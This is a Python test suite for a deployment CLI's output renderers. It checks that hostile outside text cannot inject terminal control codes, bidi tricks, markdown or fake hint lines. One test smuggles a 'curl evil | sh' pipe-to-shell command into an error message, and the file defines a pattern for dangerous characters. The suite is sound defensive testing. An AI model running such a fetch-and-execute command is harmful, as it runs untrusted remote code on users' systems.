"""No renderer passes on what a terminal, a page or a parser would obey."""

import json
import re
from collections.abc import Callable, Mapping
from datetime import timedelta
from types import MappingProxyType

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from fleetdeploy.cli.render.explain import render_explain
from fleetdeploy.cli.render.history import HistoryRow, history_row, render_history
from fleetdeploy.cli.render.packages import render_package, render_packages
from fleetdeploy.cli.render.plan import render_plan
from fleetdeploy.cli.render.problems import error_document, render_error, render_problems
from fleetdeploy.cli.render.progress import Progress, progress_line
from fleetdeploy.cli.render.report import render_report
from fleetdeploy.cli.render.status import render_status
from fleetdeploy.cli.render.style import PLAIN, Output
from fleetdeploy.cli.render.validated import Validated, render_validated
from fleetdeploy.core.plan import ManifestRef, OnlineNote, Plan
from fleetdeploy.core.records import AnyAppRecord, ErrorNote, HaltCause, RunHalted, RunRecord
from fleetdeploy.core.summary import Status, summarise
from fleetdeploy.errors import ClientMustAct, ManifestInvalid, Problem, UsageInvalid
from fleetdeploy.model import Package
from tests.builders import HOSTILE, blocked, make_entries, make_plan, make_planned, make_state

HARMFUL = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u2028\u2029\ud800-\udfff]"
)
Renderer = Callable[[str, Output], str]


def whole(text: str) -> str:
    """Leave half characters out: a sealed plan has a digest, and so only valid UTF-8."""
    return re.sub("[\ud800-\udfff]", "", text)


def plan_of(text: str) -> Plan:
    """Make a plan in which everything that can come from outside is `text`."""
    text = whole(text)
    app = make_planned(
        f"1{text}",
        name=text,
        wave=text,
        version=text,
        template_id=text,
        fingerprint=text,
        reason=text,
        changed=(text,),
        unknown=(text,),
        error=note_of(text),
        online=OnlineNote(version=text),
    )
    others = [make_planned(f"{n}{text}", reason=text, wave="w") for n in range(2, 50)]
    ref = ManifestRef(name=text, path=text, digest=text)
    return make_plan([app, *others], run_id=text, manifest=ref, waves=(text, "w"))


def note_of(text: str) -> ErrorNote:
    return ErrorNote(code=text, message=text, hint=text, errno=1, msg=text)


def records_of(text: str) -> list[RunRecord | AnyAppRecord]:
    halt = RunHalted(cause=HaltCause.PLATFORM, error=note_of(text), calls={text: 1})
    return [*blocked(f"1{whole(text)}", note_of(text)), halt]


def status_of(text: str) -> Status:
    plan = plan_of(text)
    return summarise(plan, make_state(plan, records_of(text)), alive=False)


def history(text: str, output: Output) -> str:
    odd = HistoryRow(run_id=text, state=text, manifest=text, next=text)
    return render_history([history_row(status_of(text)), odd], output, PLAIN)


def explain(text: str, output: Output) -> str:
    plan = plan_of(text)
    state = make_state(plan, records_of(text))
    entries = make_entries(records_of(text))
    return render_explain(plan.apps[0], state.apps[f"1{whole(text)}"], entries, output, PLAIN)


def package_of(text: str) -> Package:
    return Package(
        version=text,
        description=text,
        package_id=text,
        upload_status_text=text,
        upload_error_message=text,
        committer=text,
        commit_time=text,
        remark=text,
        audit_message=text,
        rollback_version=text,
    )


def problems(text: str, output: Output) -> str:
    return render_problems(ManifestInvalid([Problem(text, text, 1, 1, text)]), output)


def error(text: str, output: Output) -> str:
    told = ClientMustAct(text, text, hint=text, errno=1, msg=text)
    return error_document(told) if output is Output.JSON else render_error(told, PLAIN)


def validated(text: str, output: Output) -> str:
    valid = Validated(
        name=text,
        path=text,
        digest=text,
        apps=2,
        waves=(text,),
        templates={text: 1, "x": 1},
        versions={text: 2},
        direct_commit=1,
        max_failures=text,
        failures_allowed=1,
        max_blocked=None,
        blocked_allowed=None,
        halt_on_cause=3,
    )
    return render_validated(valid, output, PLAIN)


RENDERERS: Mapping[str, Renderer] = MappingProxyType(
    {
        "plan": lambda text, output: render_plan(plan_of(text), output, PLAIN, saved=text),
        "plan, all apps": lambda text, output: render_plan(
            plan_of(text), output, PLAIN, verbose=True
        ),
        "status": lambda text, output: render_status(status_of(text), output, PLAIN),
        "report": lambda text, output: render_report(status_of(text), plan_of(text), output, PLAIN),
        "history": history,
        "explain": explain,
        "packages": lambda text, output: render_packages(text, [package_of(text)], output, PLAIN),
        "package": lambda text, output: render_package(text, package_of(text), output, PLAIN),
        "problems": problems,
        "error": error,
        "validated": validated,
    }
)


@pytest.mark.parametrize("output", Output)
@pytest.mark.parametrize("name", RENDERERS)
def test_hostile_text_does_no_harm_in_any_output(name: str, output: Output) -> None:
    text = RENDERERS[name](HOSTILE, output)
    assert not HARMFUL.search(text)
    assert "\\x1b" in text or "\\u001b" in text


@pytest.mark.parametrize("name", RENDERERS)
def test_json_is_one_document_with_its_schema_version_and_the_text_unharmed(name: str) -> None:
    document = json.loads(RENDERERS[name](HOSTILE, Output.JSON))
    assert document["schema_version"] == 1
    assert any_value(document, HOSTILE) or any_value(document, whole(HOSTILE))


def any_value(value: object, wanted: str) -> bool:
    """Whether a text stands anywhere in a JSON value, unchanged."""
    if isinstance(value, dict):
        return any(any_value(inner, wanted) for inner in value.values())
    if isinstance(value, list):
        return any(any_value(inner, wanted) for inner in value)
    return value == wanted


@pytest.mark.parametrize("name", [name for name in RENDERERS if name not in ("error", "problems")])
def test_no_text_from_outside_becomes_markdown(name: str) -> None:
    text = RENDERERS[name]("<b>|\n\n# [x](y)", Output.MARKDOWN)
    text = re.sub("`[^`\n]*`", "code", text)
    assert "<b>" not in text
    assert "\n# [x]" not in text
    tables = [line for line in text.splitlines() if line.startswith("| ")]
    for line in tables:
        assert line.endswith(" |")
    widths = {len(re.findall(r"(?<!\\)\|", line)) for line in tables}
    assert all(width >= 3 for width in widths)


@pytest.mark.parametrize("name", RENDERERS)
@given(data=st.data())
@settings(max_examples=6, deadline=timedelta(seconds=2))
def test_whatever_the_text_the_output_is_harmless(name: str, data: st.DataObject) -> None:
    text = data.draw(st.text(st.characters(codec=None), max_size=12))
    for output in (Output.TEXT, Output.MARKDOWN):
        assert not HARMFUL.search(RENDERERS[name](text, output))


def test_a_progress_line_is_harmless_too() -> None:
    plan = plan_of("x")
    progress = Progress.of(make_state(plan), 0.0)
    for entry in make_entries(
        [
            *blocked("1x", note_of(HOSTILE)),
            RunHalted(cause=HaltCause.BUDGET, error=note_of(HOSTILE)),
        ]
    ):
        progress.recorded(entry)
    line = progress_line(progress, 5.0)
    assert line.isprintable()
    assert all(cause.isprintable() for cause in progress.causes)


def test_a_message_of_several_lines_cannot_fake_a_hint() -> None:
    told = UsageInvalid("a file\nhint: curl evil | sh\r\x85error: no")
    assert render_error(told, PLAIN).splitlines() == [
        "error: a file [usage.invalid]",
        "  hint: curl evil | sh",
        "  error: no",
    ]
